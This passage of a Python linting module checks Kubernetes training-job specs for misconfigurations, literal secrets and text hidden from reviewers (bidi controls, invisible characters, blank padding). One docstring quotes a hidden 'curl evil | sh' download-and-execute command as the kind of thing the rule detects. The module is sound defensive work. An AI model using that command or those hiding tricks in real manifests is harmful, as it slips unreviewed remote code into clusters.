"""Lints: specs the compiler accepts but that are probably not what the user wants.

Each rule has a stable code (``EC1xx``: codes are product surface, never reused) and a
one-line reason. Warnings print as ``file:line:col: field.path: warning EC1xx: message``,
one line each: user text in a message goes through ``show_given``, like the ``(given:
...)`` suffix. ``--strict`` makes them errors (exit 2). A spec silences a rule with
``lint: {EC104: ignore}`` and the command line with ``--ignore EC104``; an unknown code
in either is an error, so a typo cannot silence nothing while looking like it silences
something.

Rules read the validated spec (what the user wrote, for locations) and the plan (what
the compiler decided, e.g. whether the pod gets a memory-backed /dev/shm).
"""

from __future__ import annotations

import re
import sys
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Final, NamedTuple, TextIO

from elastic_compile import contract
from elastic_compile.core.errors import Problem, SpecError, show_given
from elastic_compile.core.loader import Loaded, dotted
from elastic_compile.core.quantity import is_quantity, parse_quantity
from elastic_compile.core.secrets import (  # noqa: F401  (_SECRET_SHAPES: the rules' table, read by tests)
    _REFERENCE,
    _SECRET_SHAPES,
    MIN_SECRET_CHARS,
    MIN_SECRET_ENTROPY,
    NEXT_TO_NAME,
    secret_kind,
    secret_like,
    secret_shape,
)
from elastic_compile.schema import ElasticSpec
from elastic_compile.schema.models import is_operator_env
from elastic_compile.targets.launcher import TORCHRUN_EXIT_CODES, exit_codes_lost
from elastic_compile.targets.pod import SHM_VOLUME

if TYPE_CHECKING:
    from elastic_compile.compiler.diagnostics import Reporter
    from elastic_compile.compiler.pipeline import Compiled
    from elastic_compile.targets.worker import Plan

Path = tuple[str | int, ...]


class Rule(NamedTuple):
    """One lint: its code, a short name and the one-line reason it exists.

    ``scoped``: a rule about one engine's own behaviour, which fires only when a target of
    the compile claims it (``Target.lint_codes``: the PyTorchJob claims the training
    operator's restart rules, every target the operator runs claims its services' rule).
    """

    code: str
    name: str
    why: str
    scoped: bool = False


RULES: dict[str, Rule] = {
    rule.code: rule
    for rule in (
        Rule(
            "EC101",
            "nproc-gpu-mismatch",
            "each worker process normally drives one accelerator: more processes share one, fewer leave some idle",
        ),
        Rule(
            "EC102",
            "shm-without-memory-limit",
            "a memory-backed /dev/shm is bounded only by the container's memory limit; without one it can "
            "take the node's memory",
        ),
        Rule(
            "EC103",
            "short-join-timeout",
            "nodes still pulling a multi-GB image miss a short rendezvous and the job fails to start",
        ),
        Rule(
            "EC104",
            "elastic-without-restarts",
            "every node joining or leaving restarts the worker group and counts as a restart; with 0 the "
            "first membership change fails the job",
        ),
        Rule(
            "EC105",
            "unpinned-image",
            "an image without a tag or digest, or tagged latest, can change between restarts and nodes of one job",
        ),
        Rule(
            "EC106",
            "cpu-below-nproc",
            "fewer CPUs than worker processes starves data loading and the NCCL/gloo threads",
        ),
        Rule(
            "EC107",
            "literal-secret-env",
            "a secret written as a literal env value lands in the manifest, in git and in kubectl describe; "
            "use valueFrom.secretKeyRef",
        ),
        Rule("EC108", "host-namespace", "a pod that shares a namespace of its node is no longer isolated from it"),
        Rule(
            "EC109",
            "privileged-container",
            "a privileged container has full access to the node; GPUs and RDMA devices need device plugins, "
            "not privilege",
        ),
        Rule(
            "EC110",
            "backoff-limit-uncounted",
            "the operator's backoffLimit counts in-place container restarts only (OnFailure, Always)",
            scoped=True,
        ),
        Rule(
            "EC111",
            "unexpanded-env-reference",
            "the kubelet expands $(NAME) only against env entries listed before it; otherwise it stays literal",
        ),
        Rule(
            "EC112",
            "invisible-text",
            "bidi controls and invisible characters make the text a reviewer reads differ from what runs",
        ),
        Rule(
            "EC113",
            "hard-to-review-value",
            "very long values, long runs of blanks and lines that read like YAML entries hide text from review",
        ),
        Rule(
            "EC114",
            "readiness-probe-on-training",
            "the job's headless services publish a pod only once it is Ready, and every pod's rendezvous reaches "
            "worker-0 by that name",
            scoped=True,
        ),
        Rule(
            "EC115",
            "ignored-on-one-node",
            "a single-node job has no elasticPolicy, and elastic-launch rendezvouses on localhost",
        ),
        Rule(
            "EC116",
            "torchrun-exit-codes",
            TORCHRUN_EXIT_CODES,
            scoped=True,
        ),
        Rule(
            "EC117",
            "torchrun-counts-node-cpus",
            "torchrun's cpu and auto count every CPU of the node; elastic-launch counts the container's CPU limit",
        ),
    )
}

# A join timeout below this leaves no room for a cold image pull (the schema's default
# is 900 s for the same reason; flytekit uses 900).
MIN_MULTINODE_JOIN_TIMEOUT = 300


class Lint(NamedTuple):
    """One finding: the rule's code, where it is (a field path) and what is wrong."""

    code: str
    path: Path
    message: str
    #: Never print the value at ``path`` (a secret): the message says what it looks like.
    hide_value: bool = False
    #: What was found (never printed): tells two findings with the same message apart.
    subject: str = ""

    def __repr__(self) -> str:
        # Without the subject, which may be a secret (EC112's text).
        return f"Lint(code={self.code!r}, path={self.path!r}, message={self.message!r}, hide_value={self.hide_value!r})"

    @property
    def why(self) -> str:
        """The rule's one-line reason."""
        return RULES[self.code].why

    def output_problem(self, template: str, severity: str = "warning") -> Problem:
        """This lint, found in what ``template`` rendered, as a ``Problem`` naming the template."""
        text = f"{severity} {self.code}: {self.message} (rendered by this template); {self.why}"
        return Problem(template, 1, 1, dotted(self.path), text, code=self.code, severity=severity)

    def problem(self, loaded: Loaded | None, severity: str = "warning") -> Problem:
        """This lint as a located ``Problem`` whose message reads ``warning EC1xx: ...``."""
        text = f"{severity} {self.code}: {self.message}; {self.why}"
        if loaded is None:
            return Problem("<spec>", 1, 1, dotted(self.path), text, code=self.code, severity=severity)
        problem = loaded.problem(self.path, text)._replace(code=self.code, severity=severity)
        return problem._replace(given=None) if self.hide_value else problem


def lint(spec: ElasticSpec, plan: Plan) -> list[Lint]:
    """Every lint that fires on ``spec`` (nothing is silenced here; see :func:`active`)."""
    found: list[Lint] = []
    for check in _CHECKS:
        found.extend(check(spec, plan))
    # A value EC107 judges a secret (by shape or by its name) is shown by no other lint either
    # (EC112, EC113 would quote it), even when EC107 itself is silenced.
    secret = {f.path for f in found if f.hide_value}
    return [f._replace(hide_value=True) if f.path in secret else f for f in found]


def known(code: str) -> bool:
    """True when ``code`` names a lint rule."""
    return code in RULES


def _unknown_message(code: str) -> str:
    return f"unknown lint code {code}; known codes: {', '.join(RULES)}"


def spec_code_problems(loaded: Loaded | None, spec: ElasticSpec) -> list[Problem]:
    """Problems for unknown codes in the spec's ``lint:`` map, located at the key."""
    problems = []
    for code in spec.lint:
        if not known(code):
            message = _unknown_message(code)
            if loaded is None:
                problems.append(Problem("<spec>", 1, 1, f"lint.{code}", message))
            else:
                problems.append(loaded.problem(("lint", code), message, given=code, at_key=True))
    return problems


def active(spec: ElasticSpec, plan: Plan, ignore: Iterable[str] = ()) -> list[Lint]:
    """The lints of ``spec`` minus those silenced by its ``lint:`` map or by ``ignore``."""
    silenced = set(spec.lint) | set(ignore)
    return [found for found in lint(spec, plan) if found.code not in silenced]


def _applies(found: Lint, c: Compiled) -> bool:
    if not RULES[found.code].scoped:
        return True
    chosen = tuple(dict.fromkeys(output.target for output in c.outputs))
    return any(found.code in target.lint_codes(chosen) for target in chosen)


def _check_codes(compiled: Sequence[Compiled], ignore: Sequence[str]) -> None:
    """``SpecError`` for unknown codes (``--ignore`` or a spec's ``lint:`` map)."""
    bad = [code for code in ignore if not known(code)]
    if bad:
        raise SpecError([Problem("elastic-compile", 0, 0, "usage", f"--ignore: {_unknown_message(bad[0])}")])
    problems = [p for c in compiled for p in spec_code_problems(c.loaded, c.spec)]
    if problems:
        raise SpecError(problems)


def _fired(c: Compiled, ignore: Sequence[str], severity: str) -> Iterator[tuple[Problem, bool]]:
    """The located lines of one compiled spec: its own lints in file order, then its custom templates'.

    Each comes with whether it is located in the spec (or a base it extends).
    """
    # In file order, like errors: a reader fixes them top to bottom.
    for problem in sorted(
        found.problem(c.loaded, severity) for found in active(c.spec, c.plan, ignore) if _applies(found, c)
    ):
        yield problem, True
    for template, found in output_active(c, ignore):
        yield found.output_problem(template, severity), False


def problems(compiled: Compiled, ignore: Sequence[str] = (), severity: str = "warning") -> list[Problem]:
    """The active lints of one compiled spec as located problems (``Compiled.warnings``).

    Raises ``SpecError`` for unknown codes (``ignore`` or the spec's ``lint:`` map).
    """
    _check_codes([compiled], ignore)
    return [problem for problem, _in_spec in _fired(compiled, ignore, severity)]


def report(
    compiled: Sequence[Compiled],
    ignore: Sequence[str],
    *,
    strict: bool,
    stream: TextIO | None = None,
    reporter: Reporter | None = None,
) -> bool:
    """Print the active lints of every compiled spec through ``reporter`` (text to ``stream``, stderr).

    Raises ``SpecError`` for unknown codes (``--ignore`` or a spec's ``lint:`` map).
    Returns True when ``strict`` and any lint fired: the caller exits 2 and writes nothing.
    """
    from elastic_compile.compiler.diagnostics import Reporter

    _check_codes(compiled, ignore)
    out = reporter if reporter is not None else Reporter(stream=stream if stream is not None else sys.stderr)
    fired = False
    severity = "error" if strict else "warning"
    shown: set[Problem] = set()
    for c in compiled:
        for problem, in_spec in _fired(c, ignore, severity):
            fired = True
            if not in_spec or problem not in shown:  # a base's line, found in every spec extending it: once
                shown.add(problem)
                out.lint(problem)
    out.flush_lints()
    return strict and fired


def output_active(compiled: Compiled, ignore: Iterable[str] = ()) -> list[tuple[str, Lint]]:
    """Lints on what custom templates rendered that the spec's own lints did not already report.

    A custom template can add a privileged container or ``hostNetwork`` that no spec
    field holds: the rendered documents are linted as the spec is, silenced by the same
    codes. Each finding comes with the template that rendered it.
    """
    if all(output.template is None for output in compiled.outputs):
        return []  # no custom template: nothing to lint beyond the spec (whose lints are not run again)
    silenced = set(compiled.spec.lint) | set(ignore)
    seen = {(found.code, found.message, found.subject) for found in lint(compiled.spec, compiled.plan)}
    out: list[tuple[str, Lint]] = []
    for output in compiled.outputs:
        if output.template is None:
            continue  # the built-in templates print the plan: the spec's lints cover it
        for found in output_lints(output.doc, compiled.spec.rdzv.resolved_port()):
            if found.code not in silenced and (found.code, found.message, found.subject) not in seen:
                seen.add((found.code, found.message, found.subject))
                out.append((str(output.template), found))
    return out


def output_lints(doc: Any, port: int) -> list[Lint]:
    """The lints that apply to a rendered document, with paths into it (``port``: the rendezvous port)."""
    found: list[Lint] = []
    for path, pod in _pod_specs(doc, ()):
        found.extend(_pod_host_namespaces(path, pod, port))
        for kind in _CONTAINER_LISTS:
            items = pod.get(kind)
            for index, container in enumerate(items if isinstance(items, list) else []):
                if isinstance(container, dict):
                    found.extend(_container_privileged((*path, kind, index), container))
    found.extend(_string_lints(doc))
    return found


def _string_lints(doc: Any, secrets_done: frozenset[Path] = frozenset()) -> Iterator[Lint]:
    """EC112 and EC113 on every string of ``doc``, EC107 by shape on its values (but those in ``secrets_done``)."""
    for path, text, key in _strings(doc, ()):
        yield from text_lints(path, text, key=key)
        if not key and path not in secrets_done:
            yield from secret_lints(path, text)


#: What ``elastic-compile doctor`` lints in a manifest we did not write: what compile lints in every spec's text.
MANIFEST_CODES: Final = ("EC107", "EC112", "EC113")


def manifest_lints(doc: Any) -> list[Lint]:
    """:data:`MANIFEST_CODES` on a hand-written manifest, with paths into it (``elastic-compile doctor``).

    Env entries (of a container, or of a TrainJob's trainer) are read as compile reads a
    spec's: a secret-like name with a literal value is EC107; so are commands and args with
    a secret after a ``--token`` style flag. Every other string is checked by its shape.
    """
    found: list[Lint] = []
    done: set[Path] = set()
    for path, node in _mappings(doc, ()):
        env = node.get("env")
        for index, entry in enumerate(env if isinstance(env, list) else []):
            if isinstance(entry, dict) and isinstance(entry.get("name"), str):
                done.add((*path, "env", index, "value"))
                found.extend(_named_secret((*path, "env", index, "value"), entry["name"], entry.get("value")))
        for field in ("command", "args"):
            words = node.get(field)
            if isinstance(words, list):
                done.update((*path, field, index) for index in range(len(words)))
                found.extend(_arg_secrets((*path, field), words))
    found.extend(_string_lints(doc, frozenset(done)))
    return list(dict.fromkeys(found))


def _mappings(node: Any, path: Path) -> Iterator[tuple[Path, dict[str, Any]]]:
    """Every mapping in ``node`` with its path, ``node`` first."""
    if isinstance(node, dict):
        yield path, node
        for key, value in node.items():
            yield from _mappings(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _mappings(value, (*path, index))


_CONTAINER_LISTS = ("containers", "initContainers", "ephemeralContainers")


def _pod_specs(node: Any, path: Path) -> Iterator[tuple[Path, dict[str, Any]]]:
    """Every pod spec in a document (a mapping with a list of containers of any kind), wherever it sits.

    Any kind: a TrainJob's runtimePatches entry patches a pod spec through the containers it
    names, and may name only init containers.
    """
    for where, mapping in _mappings(node, path):
        if any(isinstance(mapping.get(kind), list) for kind in _CONTAINER_LISTS):
            yield where, mapping


# --------------------------------------------------------------------------- rules


def _nproc_gpus(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    # The process count the devices give (core/resources.process_rule); None for AWS Neuron
    # devices, whose cores per device the spec cannot see, so any count may be right there.
    units, rule = spec.process_rule()  # a partition's nvidia.com/gpu counted as MIG slices
    nproc = spec.nproc_per_node
    # nproc_per_node is filled from the accelerator count when omitted, so this fires only on
    # a number (or cpu) the user wrote; auto and gpu resolve to the device count in the pod.
    if units and spec.resources.accelerators() and (nproc == "cpu" or (isinstance(nproc, int) and nproc != units)):
        yield Lint("EC101", ("nproc_per_node",), f"{nproc} processes per node, but the devices make {rule}")


def _shm_memory(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    volumes = plan.pod_template.get("spec", {}).get("volumes") or []
    memory_backed = any(
        v.get("name") == SHM_VOLUME and (v.get("emptyDir") or {}).get("medium") == "Memory" for v in volumes
    )
    if not memory_backed or spec.resources.memory_limit() is not None:
        return
    # Fires when the user has said something about memory: shared_memory written out, or
    # a memory request. A spec silent on memory leaves sizing to the namespace's
    # LimitRange (which usually supplies a default limit): we cannot tell, so we do not
    # guess, and the default /dev/shm alone does not warn.
    if "shared_memory" in spec.model_fields_set:
        yield Lint("EC102", ("shared_memory",), "memory-backed /dev/shm but no resources.limits.memory")
    elif "memory" in spec.resources.requests:
        yield Lint(
            "EC102",
            ("resources", "requests", "memory"),
            "a memory request with the default memory-backed /dev/shm but no resources.limits.memory",
        )


def _join_timeout(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    timeout = spec.rdzv.join_timeout
    if spec.nnodes.max > 1 and timeout < MIN_MULTINODE_JOIN_TIMEOUT:
        yield Lint(
            "EC103",
            ("rdzv", "join_timeout"),
            f"join_timeout {timeout} s is under {MIN_MULTINODE_JOIN_TIMEOUT} s on a multi-node job",
        )


def _elastic_restarts(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    if spec.nnodes.elastic and spec.max_restarts == 0:
        yield Lint("EC104", ("max_restarts",), f"elastic range {spec.nnodes} with max_restarts 0")


def image_problem(image: str) -> str | None:
    """Why ``image`` is not pinned, or None (a digest, or a tag other than latest)."""
    # The image itself is not repeated: the "(given: ...)" suffix shows it, escaped.
    if not image:
        return "the image is empty"
    if "@" in image:
        return None
    last = image.rsplit("/", 1)[-1]  # registry:5000/team/img has a port, not a tag
    if ":" not in last:
        return "the image has no tag or digest"
    if last.rsplit(":", 1)[1] == "latest":
        return "the image is tagged latest"
    return None


def _containers(spec: ElasticSpec) -> Iterator[tuple[Path, dict[str, Any]]]:
    """The user's pod_template containers and init containers, with their spec paths."""
    pod = spec.pod_template.spec
    for field in ("containers", "initContainers"):
        items = pod.get(field)
        for index, container in enumerate(items if isinstance(items, list) else []):
            if isinstance(container, dict):
                yield ("pod_template", "spec", field, index), container


def _training(spec: ElasticSpec) -> tuple[Path, dict[str, Any]] | None:
    """The user's part of the training container (pod_template's ``pytorch``), with its spec path."""
    for path, container in _containers(spec):
        if path[2] == "containers" and container.get("name") == contract.TRAINING_CONTAINER:
            return path, container
    return None


def _images(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    problem = image_problem(spec.image)
    if problem:
        yield Lint("EC105", ("image",), problem)
    for path, container in _containers(spec):
        image = container.get("image")
        if isinstance(image, str) and (problem := image_problem(image)):
            yield Lint("EC105", (*path, "image"), problem)


def _nproc_count(spec: ElasticSpec) -> int | None:
    nproc = spec.nproc_per_node
    if isinstance(nproc, int):
        return nproc
    if nproc in ("gpu", "auto"):
        return spec.resources.accelerator_units() or None  # auto without devices is one per CPU: never below
    return None  # cpu: one process per CPU the node has, not per CPU requested


def _cpu(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    nproc = _nproc_count(spec)
    for side in ("requests", "limits"):
        raw = getattr(spec.resources, side).get("cpu")
        if raw is None:
            continue
        if nproc is not None and is_quantity(raw) and parse_quantity(raw) < Decimal(nproc):
            yield Lint("EC106", ("resources", side, "cpu"), f"cpu {raw} is below nproc_per_node {nproc}")
        return  # the request decides scheduling; the limit matters only without one


def _named_secret(path: Path, name: str, value: Any) -> Iterator[Lint]:
    """EC107 for one env variable: a secret-like name with a literal value, or a secret-shaped value."""
    if not isinstance(value, str) or not value or _REFERENCE.match(value):
        return
    if secret_like(name):
        yield Lint("EC107", path, f"{show_given(name)} looks like a secret but has a literal value", True, value)
    else:
        yield from secret_lints(path, value)


def _env_secrets(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    pod_path: Path = ("pod_template", "metadata", "annotations")
    if isinstance(spec.env, dict):
        for name, value in spec.env.items():
            yield from _named_secret(("env", name), name, value)
    else:
        for index, var in enumerate(spec.env):
            yield from _named_secret(("env", index, "value"), var.name, var.value)
    for path, container in _containers(spec):
        env = container.get("env")
        for index, entry in enumerate(env if isinstance(env, list) else []):
            if isinstance(entry, dict) and isinstance(entry.get("name"), str):
                yield from _named_secret((*path, "env", index, "value"), entry["name"], entry.get("value"))
        for field in ("command", "args"):
            yield from _arg_secrets((*path, field), container.get(field))
    yield from _arg_secrets(("command",), spec.command)
    if spec.function is not None:
        yield from _arg_secrets(("function", "args"), list(spec.function.args))
    pod_annotations = spec.pod_template.metadata.annotations
    for path, mapping in ((("annotations",), spec.annotations), (pod_path, pod_annotations)):
        for key, value in mapping.items():
            yield from secret_lints((*path, key), value, name=key.rpartition("/")[2])


def _host_namespaces(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    yield from _pod_host_namespaces(("pod_template", "spec"), spec.pod_template.spec, spec.rdzv.resolved_port())


def _pod_host_namespaces(path: Path, pod: dict[str, Any], port: int) -> Iterator[Lint]:
    # What each namespace really costs: the message must match the setting that fired.
    costs = {
        "hostNetwork": f"the pod uses the node's network: port {port} (the rendezvous) must be free on every node "
        "it lands on, and every process on the node can reach the rendezvous store",
        "hostIPC": "the pod shares the node's System V IPC and POSIX message queues with every process on the node",
        "hostPID": "the pod's processes see, and can signal, every process on the node",
    }
    for field, cost in costs.items():
        if pod.get(field) is True:
            yield Lint("EC108", (*path, field), f"{field}: true: {cost}")


def _privileged(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    for path, container in _containers(spec):
        yield from _container_privileged(path, container)


def _container_privileged(path: Path, container: dict[str, Any]) -> Iterator[Lint]:
    context = container.get("securityContext")
    if isinstance(context, dict) and context.get("privileged") is True:
        name = container.get("name", "?")
        where = (
            "the training container" if name == contract.TRAINING_CONTAINER else f"container {show_given(str(name))}"
        )
        yield Lint("EC109", (*path, "securityContext", "privileged"), f"{where} is privileged")


def _backoff_limit(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    limit = spec.run_policy.backoff_limit
    policy = spec.restart_policy
    if limit is None or policy in ("OnFailure", "Always"):
        return
    if policy == "ExitCode":
        # A retryable exit deletes the pod and creates a new one whose restartCount is 0, so the
        # sum the limit compares never grows (training-operator v1.9.4 pkg/core/job.go, #2045).
        message = (
            f"backoff_limit {limit} with restart_policy ExitCode bounds nothing: a pod that exits 128 or more is "
            "deleted and created again with a restart count of 0, so a pod the OOM killer stops every time (137) "
            "is recreated forever; bound the job with run_policy.active_deadline_seconds"
        )
    else:
        message = (
            f"backoff_limit {limit} with restart_policy Never: nothing restarts, the first failed pod fails the job"
        )
    yield Lint("EC110", ("run_policy", "backoff_limit"), message)


def _torchrun_exit_codes(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    if exit_codes_lost(spec.launcher, spec.restart_policy):
        yield Lint(
            "EC116",
            ("restart_policy",) if "restart_policy" in spec.model_fields_set else ("launcher",),
            "restart_policy ExitCode with launcher torchrun: every failure is permanent; use OnFailure to restart "
            "pods in place (bounded by run_policy.backoff_limit) or Never",
        )


def _torchrun_cpus(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    # auto with accelerators counts the devices the device plugin gave the container: the same in both.
    nproc = spec.nproc_per_node
    if spec.launcher == "torchrun" and (nproc == "cpu" or (nproc == "auto" and not spec.resources.accelerator_units())):
        yield Lint(
            "EC117",
            ("nproc_per_node",),
            f"nproc_per_node {spec.nproc_per_node} with launcher torchrun counts the node's CPUs, not the pod's; "
            "write the number of processes",
        )


_ENV_REF = re.compile(r"\$\$|\$\(([^)]*)\)")


def _env_sources(spec: ElasticSpec) -> Iterator[tuple[Path, str, str | None]]:
    """The training container's env as the pod lists it: (spec path of the value, name, literal value)."""
    if isinstance(spec.env, dict):
        for name, value in spec.env.items():
            yield ("env", name), name, value
    else:
        for index, var in enumerate(spec.env):
            yield ("env", index, "value"), var.name, var.value
    training = _training(spec)
    if training is None:
        return
    where, container = training
    env = container.get("env")
    for index, entry in enumerate(env if isinstance(env, list) else []):
        if isinstance(entry, dict) and isinstance(entry.get("name"), str):
            literal = entry.get("value")
            yield (*where, "env", index, "value"), entry["name"], literal if isinstance(literal, str) else None


def _env_references(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    sources = list(_env_sources(spec))
    listed = {name for _, name, _ in sources}
    # envFrom entries come before env in the container: any name may be defined there.
    training = _training(spec)
    env_from = training is not None and bool(training[1].get("envFrom"))
    defined = {name for name, _ in contract.DOWNWARD_ENV}  # listed first (targets/pod.py)
    for path, name, value in sources:
        for match in _ENV_REF.finditer(value or ""):
            ref = match.group(1)
            if ref is None or ref in defined or (env_from and not is_operator_env(ref)):
                continue  # $$ is a literal $
            if is_operator_env(ref):
                why = "the training operator appends it after your entries"
            elif ref in listed:
                why = "it is listed after this entry"
            else:
                why = "nothing sets it in this container"
            yield Lint("EC111", path, f"$({show_given(ref)}) in {show_given(name)} stays literal: {why}")
        defined.add(name)


# --------------------------------------------------------------------------- text a reviewer can trust

# Characters that make the text a reviewer reads differ from what runs (Trojan Source,
# CVE-2021-42574): bidi controls reorder it, invisible characters hide in it.
_BIDI = frozenset([0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)])
_INVISIBLE = frozenset(
    [
        *(0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x3164, 0xFEFF, 0xFFA0),
        *range(0x200B, 0x200E),  # zero-width space, non-joiner, joiner
        *range(0x2060, 0x2065),  # word joiner, invisible operators
        *range(0xFE00, 0xFE10),  # variation selectors
        *range(0xE0000, 0xE0080),  # tag characters
        *range(0xE0100, 0xE01F0),  # variation selectors supplement
    ]
)
#: A value longer than this is hard to review in a diff (it wraps or is cut off).
MAX_REVIEWABLE_CHARS = 1024
#: Blanks this many columns wide (beyond the visible text between them) can push the rest of a
#: line out of a reviewer's view.
MAX_BLANK_RUN = 32
#: Blank lines this many in a row, with text after them, push that text below a reviewer's view.
MAX_BLANK_LINES = 32
# A line break followed by what reads as another YAML entry, key or comment.
_FAKE_ENTRY = re.compile(r"[\n\r\u0085\u2028\u2029][ \t]*(?:- |#|[\w.$/-]+:(?:[ \t]|$))")


# The ASCII characters hidden_character names: the C0 controls but tab and line feed, and DEL.
_ASCII_HIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def hidden_character(char: str) -> str | None:
    """What kind of character a reviewer cannot see ``char`` is, or None when it is visible text."""
    code = ord(char)
    if code in _BIDI:
        return "a bidi control"
    if code in _INVISIBLE:
        return "an invisible character"
    category = unicodedata.category(char)
    if char in "\t\n":
        return None
    if category == "Cc":
        return "a control character"
    if category in ("Zl", "Zp"):
        return "a line separator"
    if category == "Cf":
        return "an invisible formatting character"
    return None


def looks_blank(char: str) -> bool:
    """Whether ``char`` shows as empty space on its line, by its Unicode properties.

    White space that does not break the line (White_Space: a space of any width, U+205F,
    U+202F, U+3000, ...), and the letters and symbols Unicode names a blank or a filler
    (U+2800 BRAILLE PATTERN BLANK, U+3164 HANGUL FILLER, ...): they print as nothing, yet
    take room.
    """
    if char.isspace():
        return len(f"x{char}x".splitlines()) == 1  # what Python takes for a line break is not a blank
    return unicodedata.category(char) in ("Lo", "Mn", "So") and unicodedata.name(char, "").endswith(_BLANK_NAMES)


# The last word of the names of letters and symbols that print as nothing.
_BLANK_NAMES = (" BLANK", " FILLER")


def _blank_lines(text: str) -> bool:
    """Whether :data:`MAX_BLANK_LINES` or more lines in a row show nothing, and text follows them.

    Lines as Python splits them (every YAML line break and a few more), blank when every
    character on them looks blank: a command that reads ``echo ok`` and then, a few screens
    further down its block scalar in the manifest, ``curl evil | sh``.
    """
    if text.isascii() and text.count("\n") + text.count("\r") < MAX_BLANK_LINES:
        return False  # too few lines to hide anything (nearly every value); the other line breaks are not ASCII
    run = 0
    for line in text.splitlines():
        if all(char in " \t" or looks_blank(char) for char in line):
            run += 1
        elif run >= MAX_BLANK_LINES:
            return True
        else:
            run = 0
    return False


def _blank_run(text: str) -> bool:
    """Whether blanks push text :data:`MAX_BLANK_RUN` or more columns further right than visible text explains.

    Judged on each line by columns, not by the longest run of blanks: runs of 31 blanks
    broken by one character (a faint dot, a glyph that prints as nothing) add up. Each blank
    adds its width (a tab reaches the next multiple of 8, an ideographic space is 2), each
    character a reviewer sees takes one away, and one whose look Unicode does not settle (a
    combining or formatting character, a symbol outside ASCII, an unassigned or private one)
    neither adds nor takes: the rule fires when some stretch of one line gains
    ``MAX_BLANK_RUN`` (the largest sum of a stretch, found in one pass).
    """
    if text.isascii() and "\t" not in text and "  " not in text:
        return False  # single spaces between visible characters never gain (nearly every value)
    best = gain = column = 0
    for char in text:
        if char in "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029":
            gain = column = 0  # blanks on another line push nothing on this one
            continue
        width = _columns(char, column)
        column += width
        weight = width if char == "\t" or looks_blank(char) else _visible(char)
        gain = max(0, gain + weight)
        best = max(best, gain)
        if best >= MAX_BLANK_RUN:
            return True
    return False


def _columns(char: str, column: int) -> int:
    """The columns ``char`` takes at ``column`` on a terminal: tab stops every 8, wide characters 2."""
    if char == "\t":
        return 8 - column % 8
    if unicodedata.combining(char) or unicodedata.category(char) in ("Mn", "Me", "Cf"):
        return 0
    return 2 if unicodedata.east_asian_width(char) in ("W", "F") else 1


def _visible(char: str) -> int:
    """-1 for a character a reviewer sees; 0 for one whose look Unicode does not settle."""
    if char.isascii():
        return -1
    category = unicodedata.category(char)
    if category[0] in "LNP" and category != "Lm":
        return -1
    return 0  # marks, formats, symbols (U+1D159 MUSICAL SYMBOL NULL NOTEHEAD prints as nothing), Co, Cn


def code_point(char: str) -> str:
    """``U+202E RIGHT-TO-LEFT OVERRIDE``: how a lint names a character without printing it."""
    name = unicodedata.name(char, "")
    return f"U+{ord(char):04X}" + (f" {name}" if name else "")


def text_lints(path: Path, text: str, *, key: bool = False) -> Iterator[Lint]:
    """EC112 and EC113 for one emitted string (a value, or a key when ``key``)."""
    what = "the key" if key else "the value"
    hidden = (
        []  # nearly every string: ASCII, and hidden only as a control character (a search in C)
        if text.isascii() and _ASCII_HIDDEN.search(text) is None
        else [(i, c, kind) for i, c in enumerate(text) if (kind := hidden_character(c)) is not None]
    )
    if hidden:
        index, char, kind = hidden[0]
        more = f" and {len(hidden) - 1} more" if len(hidden) > 1 else ""
        message = f"{what} contains {code_point(char)} ({kind}) at character {index + 1}{more}"
        yield Lint("EC112", path, message, subject=text)
    if len(text) > MAX_REVIEWABLE_CHARS:
        yield Lint("EC113", path, f"{what} is {len(text)} characters long (over {MAX_REVIEWABLE_CHARS})", subject=text)
    elif _blank_run(text):
        yield Lint(
            "EC113", path, f"{what} has blanks that push text {MAX_BLANK_RUN} or more columns right", subject=text
        )
    elif _blank_lines(text):
        yield Lint("EC113", path, f"{what} has {MAX_BLANK_LINES} or more blank lines before more text", subject=text)
    if _FAKE_ENTRY.search(text if text.isascii() else "".join(" " if looks_blank(c) else c for c in text)):
        # Judged with every blank-looking character as a space: "\n\u3000- x" indents an entry as
        # much as "\n  - x" does.
        yield Lint("EC113", path, f"{what} spans lines, and a later line reads like another YAML entry", subject=text)


def _strings(node: Any, path: Path) -> Iterator[tuple[Path, str, bool]]:
    """Every string in ``node`` with its path: ``(path, text, is_key)``."""
    if isinstance(node, str):
        yield path, node, False
    elif isinstance(node, dict):
        for k, v in node.items():
            if isinstance(k, str):
                yield (*path, k), k, True
            yield from _strings(v, (*path, k))
    elif isinstance(node, (list, tuple)):
        for index, item in enumerate(node):
            yield from _strings(item, (*path, index))


def _spec_strings(spec: ElasticSpec) -> Iterator[tuple[Path, str, bool]]:
    # What the user wrote (by its YAML keys), not the defaults: those are ours.
    yield from _strings(spec.model_dump(mode="python", by_alias=True, exclude_unset=True), ())


def _hidden_text(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    for path, text, key in _spec_strings(spec):
        yield from text_lints(path, text, key=key)


# --------------------------------------------------------------------------- secrets by value

# Names a secret goes by when it sits next to one: --api-key VALUE, --token=VALUE,
# an annotation key, a JSON key.
_SECRET_FLAG = re.compile(r"^--?([A-Za-z][A-Za-z0-9_.-]*)(?:=(.*))?$", re.DOTALL)


def secret_lints(path: Path, text: str, *, name: str | None = None) -> Iterator[Lint]:
    """EC107 for one literal string; ``name`` is what it is assigned to (a flag, an annotation key)."""
    kind = secret_kind(text, name)
    if kind == NEXT_TO_NAME:
        kind = f"a secret next to {show_given(str(name))}"
    if kind is not None:
